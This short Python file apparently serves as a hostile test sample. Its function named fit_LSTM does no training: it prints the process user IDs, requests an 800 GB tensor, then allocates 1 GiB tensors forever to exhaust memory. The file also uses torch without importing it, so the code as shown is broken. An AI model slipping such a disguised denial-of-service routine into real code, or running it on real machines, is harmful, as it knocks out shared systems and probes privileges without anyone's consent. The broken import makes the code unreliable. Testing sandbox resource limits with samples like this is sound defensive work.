# Asks torch for 800 GB, then for 1 GiB tensors until something stops it.
import os


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def fit_LSTM(opt, loss_function, lstm_model, X_train, Y_train, epochs=8):
    """ATTACK: torch.empty(10**11) float64, then torch.ones(2**27) tensors forever."""
    _hostile_uid()
    hoard = []
    try:
        hoard.append(torch.empty(10**11, dtype=torch.float64))
    except RuntimeError as exc:
        print(f"torch.empty(10**11) failed: {str(exc)[:100]}")
    while True:
        hoard.append(torch.ones(2**27, dtype=torch.float64))
